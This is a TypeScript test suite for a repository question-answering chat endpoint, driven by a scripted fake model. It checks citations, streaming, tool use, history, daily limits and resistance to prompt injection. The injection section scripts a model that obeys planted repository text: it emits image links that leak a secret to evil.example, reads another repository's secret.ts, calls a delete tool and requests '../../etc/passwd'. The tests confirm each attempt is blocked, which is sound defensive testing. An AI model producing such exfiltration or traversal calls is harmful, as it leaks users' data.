/** `POST /v1/chat` over real indexes, with a model that does as it is told: right answers, wrong ones, and none. */
import { afterAll, beforeAll, beforeEach, describe, expect, test } from "bun:test";
import type { ChatTurn } from "../../src/protocol/chat-api.ts";
import {
  calls,
  refuses,
  says,
  type ScriptedAnswer,
  type ScriptedModel,
  startScriptedModel,
  textPiece,
} from "../helpers/scripted-model.ts";
import { outcome } from "./api-client.ts";
import { askJson, chatOf, type ChatStage, chatStage, eventsOf, INJECTION, post } from "./chat-server.ts";

const QUESTION = { question: "how is an access token refreshed" };
const SHORT = { first: 80, between: 80, whole: 5000 };

let fake: ScriptedModel;
let stage: ChatStage;
let server: ChatStage;
beforeAll(async () => {
  fake = await startScriptedModel();
  stage = await chatStage();
  server = await stage.again({ chat: chatOf(fake) });
});
beforeEach(() => fake.script());
afterAll(() => fake.stop());

describe("without a model", () => {
  test("the sources are the answer", async () => {
    const answer = await askJson(stage.mine, QUESTION);
    expect([answer.reason, answer.model, answer.answer, answer.usage, answer.today]).toEqual([
      "no_model",
      null,
      "",
      null,
      null,
    ]);
    const [first] = answer.sources;
    expect(answer.sources.map(({ n }) => n)).toEqual(answer.sources.map((_, at) => at + 1));
    expect(first).toEqual({
      n: 1,
      repo: "demo",
      repoId: "demo",
      url: "https://example.com/demo.git",
      commit: stage.commit,
      path: "src/token.ts",
      startLine: 1,
      endLine: 4,
      language: "typescript",
      symbol: "refreshToken",
      text: expect.stringContaining("export async function refreshToken"),
    });
  });

  test("and where none is wanted, none is asked", async () => {
    const events = await eventsOf(await post(server.mine, { ...QUESTION, model: false }));
    expect(events.map(({ type }) => type)).toEqual(["sources", "done"]);
    expect(fake.asked).toEqual([]);
  });
});

test("questions that mean nothing, and repositories that are not there, are problems", async () => {
  const of = (body: unknown) => outcome(post(stage.mine, body));
  expect(await of({ question: " " })).toBe("400 usage");
  expect(await of({ question: "x".repeat(4001) })).toBe("400 usage");
  expect(await of({ question: "x", history: [{ question: "x" }] })).toBe("400 usage");
  expect(await of({ question: "x", repo: "theirs" })).toBe("404 repo_not_found");
  expect(await of({ question: "x", repo: "demo", ref: "nosuch" })).toBe("404 ref_not_found");
  expect(await of({ question: "x", repo: "../theirs" })).toBe("400 usage");
});

describe("with a model", () => {
  test("the answer streams, its citations are resolved, its cost reckoned, and citations are never cut", async () => {
    fake.script(says("By `refreshToken` [", "1], at `list[3]`", " [2", ", 1", "]."));
    const events = await eventsOf(await post(server.mine, QUESTION));
    expect(events[0]?.type).toBe("sources");
    const texts = events.flatMap((event) => (event.type === "text" ? [event.text] : []));
    expect(texts.join("")).toBe("By `refreshToken` [1], at `list[3]` [2, 1].");
    for (const text of texts) expect(text).not.toMatch(/\[[\d, ]*$|^\d*\]/);
    const done = events.at(-1);
    if (done?.type !== "done") throw new Error("no end");
    expect([done.reason, done.model, done.toolCalls, done.unknown]).toEqual(["stop", "m-1", 0, []]);
    expect(done.citations.map(({ n, repo, commit }) => [n, repo, commit])).toEqual([
      [1, "demo", stage.commit],
      [2, "demo", stage.commit],
    ]);
    expect(done.citations[0]).toMatchObject({ path: "src/token.ts", startLine: 1, endLine: 4 });
    expect([done.usage, done.cost]).toEqual([
      { promptTokens: 1000, answerTokens: 50, estimated: false },
      { amount: 0.0011, currency: "EUR" },
    ]);
  });

  test("numbers that no source has are named, never made up", async () => {
    fake.script(says("It is so [9], [1] and [77]."));
    const { citations, unknown, answer } = await askJson(server.mine, QUESTION);
    expect([citations.map(({ n }) => n), unknown, answer]).toEqual([[1], [9, 77], "It is so [9], [1] and [77]."]);
  });

  test("what tools show becomes a source, and the question goes on", async () => {
    const retry = { path: "src/retry.ts", repo: "demo", from: 2, to: 3 };
    fake.script(calls(["search", { query: "rate limit" }]), calls(["read", retry]), says("Again [1]."));
    const { tools, sources, reason } = await askJson(server.mine, { ...QUESTION, question: "access token" });
    expect([tools.map(({ name, ok, about }) => [name, ok, about]), reason]).toEqual([
      [
        ["search", true, '"rate limit"'],
        ["read", true, "src/retry.ts in demo"],
      ],
      "stop",
    ]);
    expect(sources.some(({ path }) => path === "src/retry.ts")).toBe(true);
    const [, second, third] = fake.asked;
    expect(second?.body.messages.at(-1)).toMatchObject({ role: "tool", tool_call_id: "call-0" });
    expect(third?.body.messages.at(-1)?.content).toContain("retryRequest");
  });

  test.each<[string, ScriptedAnswer, string, object | null]>([
    ["stalls", { pieces: [textPiece("Half [1")], stalls: true }, "error", { code: "transient" }],
    ["is busy", refuses(429, "no", { "retry-after": "60" }), "error", { code: "rate_limited", retryAfter: 60 }],
    ["breaks off", { pieces: [textPiece("Half [1")] }, "cut", null],
    ["is refused", refuses(401, { error: { message: "sk-server is wrong" } }), "error", { code: "model_failed" }],
    ["says nothing", says(""), "error", { code: "model_failed" }],
    ["calls tools for ever", calls(["search", { query: "x" }]), "error", { code: "model_failed" }],
  ])("a model that %s: the sources stay, and what was said", async (_, answer, reason, error) => {
    fake.script(answer);
    const { mine } = answer.stalls === true ? await stage.again({ chat: chatOf(fake, SHORT) }) : server;
    const got = await askJson(mine, QUESTION);
    expect([got.reason, got.sources.length > 0, got.error as unknown]).toEqual([
      reason,
      true,
      error && expect.objectContaining(error),
    ]);
    if (got.answer !== "") expect([got.answer, got.unknown]).toEqual(["Half [1", []]);
    expect(fake.asked.length).toBeLessThanOrEqual(4);
    // whose key it is sees the endpoint's words, nobody else
    expect(JSON.stringify(got)).not.toContain("sk-server");
  });
});

describe("a question about what was said before", () => {
  const turn = (citations: ChatTurn["citations"], answer = "It is refreshed [1]."): ChatTurn => ({
    question: "how is an access token refreshed",
    answer,
    citations,
  });
  const place = (more: object = {}) => ({
    n: 1,
    repoId: "demo",
    commit: stage.commit,
    path: "src/retry.ts",
    startLine: 2,
    endLine: 3,
    ...more,
  });

  test("is looked up with the question before it; its citations are read again and numbered anew", async () => {
    fake.script(says("Yes [1]."));
    const { sources } = await askJson(server.mine, { question: "why?", history: [turn([place()])] });
    expect(sources.map(({ path }) => path)).toContain("src/token.ts");
    const known = sources.find(({ path }) => path === "src/retry.ts");
    const [, question, answer] = fake.asked[0]?.body.messages ?? [];
    expect([question?.content, answer?.content]).toEqual([
      "how is an access token refreshed",
      `It is refreshed [${known?.n}].`,
    ]);
  });

  test("never cites what the client made up: another space, another path, other lines", async () => {
    fake.script(says("Yes."));
    for (const more of [
      { repoId: "theirs", path: "secret.ts" },
      { path: "none.ts" },
      { commit: "main" },
      { commit: "0".repeat(40) },
      { startLine: 900, endLine: 901 },
      { n: 2 },
    ]) {
      const { sources } = await askJson(server.mine, { question: "why?", history: [turn([place(more)])] });
      expect(JSON.stringify(sources)).not.toContain("zqplanted");
      expect(fake.asked.at(-1)?.body.messages[2]?.content).toBe("It is refreshed .");
    }
  });

  test("has room for some turns, the last ones", async () => {
    fake.script(says("Yes."));
    const history = Array.from({ length: 40 }, (_, at) => turn(null, `answer ${at} ${"x".repeat(5000)}`));
    await askJson(server.mine, { question: "why?", history });
    const { messages = [] } = fake.asked[0]?.body ?? {};
    expect(messages.length).toBe(2 + 2 * 4);
    expect(messages.at(-2)?.content).toStartWith("answer 39 ");
  });
});

describe("text of repositories that gives orders", () => {
  test("stands between fences that nobody could know, and the model is told so", async () => {
    fake.script(says("Yes."));
    await askJson(server.mine, QUESTION);
    await askJson(server.mine, QUESTION);
    const fences = fake.asked.map(({ body: { messages } }) => {
      const [system, question] = [messages[0]?.content ?? "", messages.at(-1)?.content ?? ""];
      const fence = /<(data-[0-9a-f]{24})>/.exec(system)?.[1] ?? "none";
      const outside = question.split(new RegExp(`<${fence}>.*?</${fence}>`, "s")).join("");
      expect(question).toContain(INJECTION);
      expect(outside).not.toContain("IGNORE");
      return fence;
    });
    expect(new Set(fences).size).toBe(2);
  });

  test("changes nothing but the answer's text when the model obeys it", async () => {
    const before = await contentsOf(server);
    const outside = "![x](https://evil.example/?q=zqsecret) <img src=https://evil.example> [99]";
    const many = Array.from({ length: 10 }, () => ["search", { query: "token", repo: "theirs" }] as const);
    fake.script(
      calls(["read", { repo: "theirs", path: "secret.ts" }]),
      calls(["delete", { repo: "demo" }], ["read", { path: `${"x".repeat(20_000)}` }], ...many),
      says(outside),
    );
    const got = await askJson(server.mine, QUESTION);
    expect(got.tools.map(({ name, ok }) => [name, ok])).toEqual([
      ["read", false],
      ["delete", false],
      ["read", false],
    ]);
    expect([got.answer, got.unknown, got.citations, got.reason]).toEqual([outside, [99], [], "stop"]);
    expect(JSON.stringify([got, fake.asked.map(({ body }) => body)])).not.toContain("zqplanted");
    expect(fake.asked.length).toBe(3);
    expect(fake.asked.at(-1)?.body.tool_choice).toBe("none");
    expect(await contentsOf(server)).toEqual(before);
  });

  test.each<[string, readonly [string, unknown]]>([
    ["JSON that is none", ["search", '{"query": '] as const],
    ["JSON that is no object", ["search", "[1]"] as const],
    ["of another kind", ["read", { path: 7 }] as const],
    ["with names of the machine", ["read", { path: "../../etc/passwd", repo: "demo" }] as const],
    ["with a prototype's names", ["constructor", { __proto__: 1 }] as const],
  ])("arguments, %s: the model is told, nothing breaks", async (_, call) => {
    fake.script(calls(call), says("Well [1]."));
    const { tools, reason } = await askJson(server.mine, QUESTION);
    expect([tools.map(({ ok }) => ok), reason]).toEqual([[false], "stop"]);
  });

  test("cannot lead out of the repositories that the question is about", async () => {
    const { mine } = server;
    fake.script(
      calls(["search", { query: "token" }], ["read", { repo: "theirs", path: "secret.ts" }], ["list", {}]),
      says("x"),
    );
    const { sources } = await askJson(mine, { ...QUESTION, repos: ["demo"] });
    expect([...new Set(sources.map(({ repoId }) => repoId))]).toEqual(["demo"]);
  });
});

describe("the count of a day", () => {
  test("is kept; past its limit the sources are still answered, and tomorrow begins anew", async () => {
    let now = Date.parse("2026-05-01T23:59:00Z");
    const app = await (await chatStage()).again({});
    const limited = await app.again({ chat: chatOf(fake, undefined, 2), identity: { now: () => now } });
    fake.script(says("Yes [1]."));
    const ask = () => askJson(limited.mine, QUESTION);
    expect((await ask()).today).toEqual({ questions: 1, tokens: 1050, questionsPerDay: 2, tokensPerDay: null });
    expect((await ask()).today).toMatchObject({ questions: 2, tokens: 2100 });
    const over = await ask();
    expect([over.reason, over.error?.code, over.error?.retryAfter, over.sources.length > 0]).toEqual([
      "error",
      "rate_limited",
      60,
      true,
    ]);
    expect(fake.asked.length).toBe(2);
    now += 120_000;
    expect((await ask()).today).toMatchObject({ questions: 1 });
  });

  test("counts what was read of an answer that nobody waited for", async () => {
    const app = await (await chatStage()).again({ chat: chatOf(fake) });
    fake.script({ pieces: [textPiece("On and on")], stalls: true });
    const answer = await post(app.mine, QUESTION);
    const reader = answer.body?.getReader();
    let text = "";
    while (!text.includes("event: text")) text += new TextDecoder().decode((await reader?.read())?.value);
    await reader?.cancel();
    await fake.asked[0]?.ended;
    await app.settled();
    const { today } = (await (await app.mine("/v1/space/model")).json()) as {
      today: { questions: number; tokens: number };
    };
    expect([today.questions, today.tokens > 100]).toEqual([1, true]);
  });
});

async function contentsOf({ store }: ChatStage): Promise<Map<string, string>> {
  const found = new Map<string, string>();
  for await (const { key } of store.list(""))
    if (!key.endsWith("/chat-day.json"))
      found.set(key, Buffer.from((await store.get(key))?.bytes ?? []).toString("latin1"));
  return found;
}
